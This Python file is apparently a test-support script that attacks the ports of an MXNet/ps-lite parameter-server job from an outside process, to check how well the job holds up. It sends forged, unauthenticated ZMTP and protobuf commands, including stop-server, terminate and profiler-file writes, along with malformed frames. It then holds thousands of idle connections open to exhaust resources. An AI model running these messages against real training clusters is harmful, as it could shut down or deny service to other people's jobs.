"""Attacks on the ports of a job with parameter servers, from a process that is not one of the job.

    python tests/support/attacker.py SECONDS ADDRESS:PORT ...

As root it becomes another user first. It prints ``attacked`` after each kind has been at every
port, and holds 2,000 connections to each port open for SECONDS afterwards.
"""

from __future__ import annotations

import os
import random
import resource
import socket
import sys
import time
from collections.abc import Iterator
from contextlib import suppress

NOBODY = 65534
GET = b"GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
CONNECTIONS = 2000
# ZMTP 3.0 without authentication, as ps-lite speaks it; a dealer with a name that it likes.
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
_TERMINATE, _ADD_NODE, _BARRIER, _HEARTBEAT = 1, 2, 3, 5  # ps-lite's include/ps/internal/message.h
# kStopServer, kSyncMode, kSetGradientCompression, kSetProfilerParams of MXNet's kvstore_dist_server
_STOP, _SYNC, _COMPRESS, _PROFILE = 2, 3, 4, 5


def _frame(flags: int, body: bytes) -> bytes:
    return bytes([flags, len(body)]) + body


def _ready(name: bytes) -> bytes:
    body = b"\x05READY"
    for key, value in ((b"Socket-Type", b"DEALER"), (b"Identity", name)):
        body += bytes([len(key)]) + key + len(value).to_bytes(4, "big") + value
    return _frame(4, body)


def _fields(fields: dict[int, int | bytes]) -> bytes:
    """A message of protobuf; its numbers and lengths are below 128."""
    text = b""
    for number, value in fields.items():
        if isinstance(value, int):
            text += bytes([number << 3, value])
        elif value:
            text += bytes([number << 3 | 2, len(value)]) + value
    return text


def _command(head: int, body: bytes = b"") -> bytes:
    """A message for MXNet's server, as ``kv._send_command_to_servers`` makes it."""
    return _fields({1: head, 2: body, 4: 1, 5: 0, 6: 1, 7: 0, 8: 0, 10: 0})


def _control(command: int) -> bytes:
    node = _fields({1: 1, 2: 9, 3: b"127.0.0.1", 4: 1})
    return _fields({3: _fields({1: command, 2: node, 3: 7}), 4: 1, 7: 0, 10: 0})


def messages() -> Iterator[bytes]:
    """Everything that is sent in one connection each."""
    generator = random.Random(0)
    yield from (b"", GET, GREETING[:10], GREETING)
    yield from (generator.randbytes(size) for size in (1, 31, 32, 33, 64, 96, 4096))
    # No identity of ps-lite.
    yield GREETING + _ready(b"stranger") + _frame(0, _command(_STOP))
    hello = GREETING + _ready(b"ps9")
    # A frame that is announced and does not come; one of 2^63 bytes.
    yield from (hello + b"\x00\xffhalf", hello + b"\x02" + b"\xff" * 8)
    # No metadata; what is not a protobuf; empty pushes.
    push = _fields({4: 1, 5: 1, 7: 0, 8: 0, 10: 0})
    for body in (b"", b"\xff" * 20, push):
        yield hello + _frame(0, body)
    yield hello + _frame(1, push) + _frame(1, b"") + _frame(0, b"")
    profile = b"0profile_all=1,filename=attacked.json\x00"
    for head, body in ((_SYNC, b""), (_COMPRESS, b"type=2bit"), (_PROFILE, profile), (_STOP, b"")):
        yield hello + _frame(0, _command(head, body))
    for command in (_HEARTBEAT, _BARRIER, _ADD_NODE, _TERMINATE):
        yield hello + _frame(0, _control(command))


def send(address: tuple[str, int], message: bytes) -> None:
    """Send in two parts, read a little, and leave."""
    with suppress(OSError), socket.create_connection(address, 5) as connection:
        connection.settimeout(0.05)
        connection.sendall(message[:40])
        time.sleep(0.02)
        connection.sendall(message[40:])
        while connection.recv(4096):
            pass


def hold(addresses: list[tuple[str, int]], seconds: float) -> None:
    """Open many connections that say nothing."""
    held = []
    for address in addresses * CONNECTIONS:
        with suppress(OSError):
            held.append(socket.socket())
            held[-1].setblocking(False)
            held[-1].connect(address)
    time.sleep(seconds)


def main() -> None:
    seconds, *words = sys.argv[1:]
    addresses = [(host, int(port)) for host, port in (word.split(":") for word in words)]
    # Another user may not be able to load this codec of Python, which sockets want.
    "a".encode("idna")
    limit = CONNECTIONS * len(addresses) + 100
    if os.getuid() == 0:
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    for message in messages():
        for address in addresses:
            send(address, message)
    print("attacked", flush=True)
    hold(addresses, float(seconds))


if __name__ == "__main__":
    main()
